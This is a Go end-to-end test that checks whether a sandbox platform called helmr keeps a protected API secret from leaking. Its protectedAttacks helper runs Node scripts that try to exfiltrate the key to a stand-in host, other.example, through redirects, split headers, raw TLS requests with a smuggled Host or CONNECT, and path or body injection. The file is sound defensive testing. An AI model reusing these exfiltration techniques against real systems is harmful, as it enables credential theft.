package e2e

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"helmr.dev/helmr/client/api"
	"helmr.dev/helmr/internal/db"
	certs "helmr.dev/helmr/internal/egress/authority"
	"helmr.dev/helmr/internal/id"
)

// model is a server of the small internet that says what it was given, but no value.
type model struct {
	roots string // a file with the authority of its certificate
}

func startModel(t *testing.T) *model {
	t.Helper()
	cert, key, err := certs.Make([]string{"allowed.example", "other.example"}, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	public, err := certs.Open(cert, key, nil)
	if err != nil {
		t.Fatal(err)
	}
	m := &model{roots: filepath.Join(t.TempDir(), "roots.pem")}
	if err := os.WriteFile(m.roots, public.PEM(), 0o644); err != nil {
		t.Fatal(err)
	}
	server := &http.Server{ErrorLog: log.New(io.Discard, "", 0), Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/redirect":
			http.Redirect(w, r, "https://other.example/", http.StatusTemporaryRedirect)
			return
		case "/events":
			w.Header().Set("Content-Type", "text/event-stream")
			for i := range 3 {
				fmt.Fprintf(w, "data: %d\n\n", i)
				_ = http.NewResponseController(w).Flush()
			}
			return
		}
		body, _ := io.ReadAll(r.Body)
		given := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		fmt.Fprintf(w, "%s given %s placeholder %v path %s body %s", r.Host, digest(given), strings.HasPrefix(given, certs.Prefix), r.URL.Path, digest(string(body)))
	}), TLSConfig: &tls.Config{NextProtos: []string{"h2", "http/1.1"}, GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return public.Leaf(h.ServerName) }}}
	inNamespace(t, fmt.Sprintf("helmre2e-%d-inet", os.Getpid()), func() error {
		for _, port := range []string{":443", ":8443"} {
			ln, err := net.Listen("tcp4", port)
			if err != nil {
				return err
			}
			go func() { _ = server.ServeTLS(ln, "", "") }()
		}
		return nil
	})
	t.Cleanup(func() { _ = server.Close() })
	return m
}

// called is what the caller Agent returns.
type called struct {
	Status       int
	Fetch, HTTP2 string
}

func (h *helmr) called(sessionID, turnID string) called {
	h.t.Helper()
	v := h.settled(sessionID, turnID)
	var c called
	if v.Status != "completed" || json.Unmarshal(v.Result, &c) != nil {
		h.t.Fatalf("turn %+v %+v\n%s\n%s", v, v.Error, h.describe(sessionID), h.out)
	}
	return c
}

// TestProtectedSecrets lets real programs in real sandboxes use a protected Secret, attacks it from inside, and looks for its
// value everywhere it must not be.
func TestProtectedSecrets(t *testing.T) {
	host := smallInternet(t)
	m := startModel(t)
	h := prepare(t, db.SQLite)
	h.netns = "/run/netns/" + host
	h.env = []string{"HELMR_WORKER_NETWORK_RESOLVER_IPV4=9.9.9.9", "SSL_CERT_FILE=" + m.roots}
	h.run()
	ctx := t.Context()
	first, second, third := "first-"+id.New()+id.New(), "second-"+id.New()+id.New(), "third-"+id.New()+id.New()
	values := []string{first, second, third}
	if out := h.commandWith(first+"\n", "secret", "create", "MODEL_KEY"); strings.Contains(out, first) {
		t.Fatal("create shows the value")
	}
	h.deploy("testdata/protected")

	const url = "https://allowed.example/"
	r := h.create("caller", url)
	want := func(c called, value string) {
		t.Helper()
		says := " given " + digest(value) + " placeholder false"
		if c.Status != 200 || !strings.HasPrefix(c.Fetch, "allowed.example"+says) || !strings.HasPrefix(c.HTTP2, "allowed.example:443"+says) {
			t.Fatalf("the Agent was answered %+v, want %q", c, says)
		}
	}
	want(h.called(r.SessionID, r.TurnID), first)
	s, err := h.GetSession(ctx, r.SessionID)
	if err != nil {
		t.Fatal(err)
	}
	// A Computer of its own, under an open policy and with another port.
	if stdout, stderr, code := h.command("computer", "create", "open", "--key", "open"); code != 0 {
		t.Fatalf("create: %s%s", stdout, stderr)
	}
	opened, err := h.ComputerByKey(t, "open")
	if err != nil {
		t.Fatal(err)
	}
	node := func(computer, script string) string {
		t.Helper()
		return strings.TrimSpace(h.output(computer, []string{"node", "-e", script}))
	}
	say := func(computer, url, options string) string {
		t.Helper()
		return node(computer, fmt.Sprintf(`process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"; // other origins have certificates that the image does not know
const key = process.env.MODEL_KEY; fetch(%q, %s).then(async (r) => console.log(r.status, await r.text()), (e) => console.log("failed", e.cause?.code ?? e))`, url, options))
	}
	const withKey = `{ headers: { authorization: "Bearer " + key } }`
	for _, url := range []string{"https://allowed.example/x", "https://allowed.example:8443/x"} {
		if got := say(opened, url, withKey); !strings.Contains(got, "given "+digest(first)+" placeholder false path /x") {
			t.Errorf("%s under an open policy: %s", url, got)
		}
	}
	for _, url := range []string{"https://other.example/x", "https://other.example:8443/x"} {
		if got := say(opened, url, withKey); !strings.Contains(got, "placeholder true path /x") {
			t.Errorf("%s under an open policy: %s", url, got)
		}
	}
	// The same while a Template is prepared, under the policy of that phase.
	stocked := h.newComputer("stocked", "")
	if got := h.output(stocked, []string{"cat", "/work/answer"}); !strings.HasPrefix(got, "200 allowed.example given "+digest(first)+" placeholder false path /stock") || !strings.HasSuffix(got, " closed") {
		t.Errorf("the callback was answered %q", got)
	}
	h.nothingInside(stocked, node(stocked, `console.log("none")`), values)
	h.protectedAttacks(s.ComputerID, opened, say, node, first)

	placeholder := node(s.ComputerID, `console.log(process.env.MODEL_KEY)`)
	if len(placeholder) != certs.PlaceholderLength || !strings.HasPrefix(placeholder, certs.Prefix) {
		t.Fatalf("the variable holds %q", placeholder)
	}
	h.nothingInside(s.ComputerID, placeholder, values)

	// The processes of before go on after the Worker was killed: the same authority, the same placeholder.
	h.kill()
	h.run()
	want(h.called(r.SessionID, h.enqueue(r.SessionID, url)), first)

	// TestSpec_10_15: the next request has the new value, and none after the revocation.
	if _, err := h.RotateSecret(ctx, "MODEL_KEY", api.SecretRotateRequest{Value: second, IdempotencyKey: "r"}); err != nil {
		t.Fatal(err)
	}
	want(h.called(r.SessionID, h.enqueue(r.SessionID, url)), second)
	loop := h.startLoop(s.ComputerID)
	h.until("the loop has the second value", func() bool { return strings.Contains(h.tail(loop), digest(second)) })
	h.commandWith("", "secret", "revoke", "MODEL_KEY", "--yes")
	h.until("the loop is refused", func() bool { return strings.Contains(h.tail(loop), "403 helmr") })
	if _, err := h.Enqueue(ctx, r.SessionID, api.EnqueueRequest{Input: input(url)}); code(err) != "secret_unavailable" {
		t.Errorf("a Turn after the revocation: %v", err)
	}
	if got := h.exposed("MODEL_KEY"); got != "" {
		t.Errorf("exposed: %s", got)
	}
	h.nothingInside(s.ComputerID, placeholder, values)
	h.answersLackOf(r.SessionID, values)
	h.stop()
	for path, i := range h.scan(values) {
		t.Errorf("after the stop, value %d is in %s", i, path)
	}
}

// ComputerByKey gives the id of the Computer with a key.
func (h *helmr) ComputerByKey(t *testing.T, key string) (string, error) {
	stdout, stderr, exit := h.command("computer", "list", "--key", key, "--json")
	var page api.ComputerPage
	if err := json.Unmarshal([]byte(stdout), &page); err != nil || exit != 0 || len(page.Computers) != 1 {
		return "", fmt.Errorf("%s%s %w", stdout, stderr, err)
	}
	return page.Computers[0].ID, nil
}

// protectedAttacks tries to have the value sent elsewhere or shown.
func (h *helmr) protectedAttacks(listed, opened string, say func(computer, url, options string) string, node func(computer, script string) string, value string) {
	t := h.t
	t.Helper()
	foreign := node(opened, `console.log(process.env.MODEL_KEY)`)
	for what, c := range map[string]struct{ url, options, want string }{
		"the control":                  {"https://allowed.example/", `{ headers: { authorization: "Bearer " + key } }`, "200 allowed.example given " + digest(value)},
		"another origin":               {"https://other.example/", `{ headers: { authorization: "Bearer " + key } }`, "placeholder true"},
		"a redirect to another origin": {"https://allowed.example/redirect", `{ headers: { "x-key": key, authorization: key } }`, "200 other.example given " + digest("")},
		"another Computer's":           {"https://allowed.example/", `{ headers: { authorization: "Bearer ` + foreign + `" } }`, "403 helmr"},
		"one made up":                  {"https://allowed.example/", `{ headers: { authorization: "Bearer " + key.slice(0, -4) + "0000" } }`, "403 helmr"},
		"half of one":                  {"https://allowed.example/", `{ headers: { "x-a": key.slice(0, 30), "x-b": key.slice(30) } }`, "403 helmr"},
		"in the path":                  {"https://allowed.example/path", `{}`, "given " + digest("") + " placeholder false path /path"},
		"events":                       {"https://allowed.example/events", `{ headers: { authorization: key } }`, "200 data: 0\n\ndata: 1\n\ndata: 2"},
	} {
		if got := say(listed, c.url, c.options); !strings.Contains(got, c.want) {
			t.Errorf("%s: %s, want %s", what, got, c.want)
		}
	}
	body := node(listed, `const key = process.env.MODEL_KEY, { createHash } = require("node:crypto");
fetch("https://allowed.example/" + key + "?q=" + key, { method: "POST", body: key }).then(async (r) => { const text = await r.text();
console.log(text.includes("path /" + key), text.includes("body " + createHash("sha256").update(key).digest("hex"))) })`)
	if body != "true true" {
		t.Errorf("path and body are not what was sent: %s", body)
	}
	// Another host within a connection, and a WebSocket.
	raw := node(listed, `const tls = require("node:tls"), key = process.env.MODEL_KEY;
const ask = (text) => new Promise((done) => { let all = ""; const c = tls.connect({ host: "allowed.example", port: 443, servername: "allowed.example" }, () => c.write(text));
c.on("data", (d) => { all += d; if (all.includes("\r\n\r\n")) c.end() }); c.on("close", () => done(all.split("\r\n")[0])); c.on("error", (e) => done(String(e.code))) });
(async () => { console.log(await ask("GET / HTTP/1.1\r\nHost: other.example\r\nAuthorization: " + key + "\r\n\r\n"));
console.log(await ask("GET / HTTP/1.1\r\nHost: allowed.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nAuthorization: " + key + "\r\n\r\n"));
console.log(await ask("CONNECT other.example:443 HTTP/1.1\r\nHost: other.example:443\r\nAuthorization: " + key + "\r\n\r\n"));
console.log(await ask("GET https://other.example/ HTTP/1.1\r\nHost: allowed.example\r\nAuthorization: " + key + "\r\n\r\n")) })()`)
	if raw != "HTTP/1.1 421 Misdirected Request\nHTTP/1.1 400 Bad Request\nHTTP/1.1 400 Bad Request\nHTTP/1.1 400 Bad Request" {
		t.Errorf("raw requests were answered\n%s", raw)
	}
}

// startLoop begins a Command that calls the model again and again.
func (h *helmr) startLoop(computerID string) string {
	h.t.Helper()
	script := `const go = async () => { for (;;) { const r = await fetch("https://allowed.example/", { headers: { authorization: "Bearer " + process.env.MODEL_KEY } });
console.log(r.status, (await r.text()).trim()); if (r.status !== 200) return; await new Promise((d) => setTimeout(d, 50)) } }; go()`
	cmd, err := h.CreateCommand(h.t.Context(), computerID, api.CommandCreateRequest{Command: []string{"node", "-e", script}})
	if err != nil {
		h.t.Fatal(err)
	}
	return cmd.CommandID
}

// tail gives what a Command has written so far.
func (h *helmr) tail(commandID string) string {
	stdout, _, _ := h.command("command", "logs", commandID)
	return stdout
}

// nothingInside looks for values in a Computer, from inside and from outside. The placeholder is there, so the search finds
// what there is.
func (h *helmr) nothingInside(computerID, placeholder string, values []string) {
	t := h.t
	t.Helper()
	pid := h.sandboxPID(computerID)
	if pid == 0 {
		t.Fatal("the sandbox is gone")
	}
	found := memoryOf(t, pid, append([]string{placeholder}, values...))
	if !found[placeholder] {
		t.Error("the search of the memory does not find what is there")
	}
	for i, v := range values {
		if found[v] {
			t.Errorf("value %d is in the memory of the sandbox", i)
		}
	}
	for path, i := range h.scan(values) {
		t.Errorf("value %d is in %s", i, path)
	}
	lacks(t, "what helmr dev wrote", h.out.Bytes(), values)
}

// memoryOf looks for texts in everything that a process has mapped, and in the memory files that it has open.
func memoryOf(t testing.TB, pid int, texts []string) map[string]bool {
	t.Helper()
	found := map[string]bool{}
	look := func(r io.ReaderAt, from, to int64) {
		const step, overlap = 4 << 20, 256
		buf := make([]byte, step)
		for at := from; at < to; at += step - overlap {
			n, err := r.ReadAt(buf[:min(step, to-at)], at)
			for _, text := range texts {
				if bytes.Contains(buf[:n], []byte(text)) {
					found[text] = true
				}
			}
			if err != nil && !errors.Is(err, io.EOF) {
				return
			}
		}
	}
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		t.Fatal(err)
	}
	defer mem.Close()
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		t.Fatal(err)
	}
	// Shared mappings are those of the memory file, which is looked at below: reading them here would fill its holes.
	for line := range strings.Lines(string(maps)) {
		var from, to uint64
		var mode string
		if _, err := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); err == nil && mode[0] == 'r' && mode[3] == 'p' && to < 1<<63 && to-from < 2<<30 {
			look(mem, int64(from), int64(to))
		}
	}
	files, _ := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", pid))
	searched := 0
	for _, name := range files {
		target, err := os.Readlink(name)
		if err != nil || !strings.HasPrefix(target, "/memfd:") && !strings.Contains(target, "runsc") {
			continue
		}
		f, err := os.Open(name)
		if err != nil {
			continue
		}
		for at := int64(0); ; {
			from, err := unix.Seek(int(f.Fd()), at, unix.SEEK_DATA)
			if err != nil {
				break
			}
			to, err := unix.Seek(int(f.Fd()), from, unix.SEEK_HOLE)
			if err != nil {
				break
			}
			look(f, from, to)
			searched++
			at = to
		}
		_ = f.Close()
	}
	if searched == 0 {
		t.Error("the sandbox has no memory file: the search looks at the wrong place")
	}
	return found
}

// answersLackOf looks for values in what the API says.
func (h *helmr) answersLackOf(sessionID string, values []string) {
	h.t.Helper()
	var all bytes.Buffer
	for _, args := range [][]string{{"secret", "list", "--json"}, {"computer", "list", "--json"}, {"template", "get", "listed", "--json"}, {"session", "get", sessionID, "--json"}} {
		stdout, stderr, code := h.command(args...)
		if code != 0 {
			h.t.Errorf("helmr %v: %s", args, stderr)
		}
		all.WriteString(stdout)
	}
	events, err := json.Marshal(h.events(sessionID))
	if err != nil {
		h.t.Fatal(err)
	}
	lacks(h.t, "the API", append(all.Bytes(), events...), values)
	lacks(h.t, "what helmr dev wrote", h.out.Bytes(), values)
}
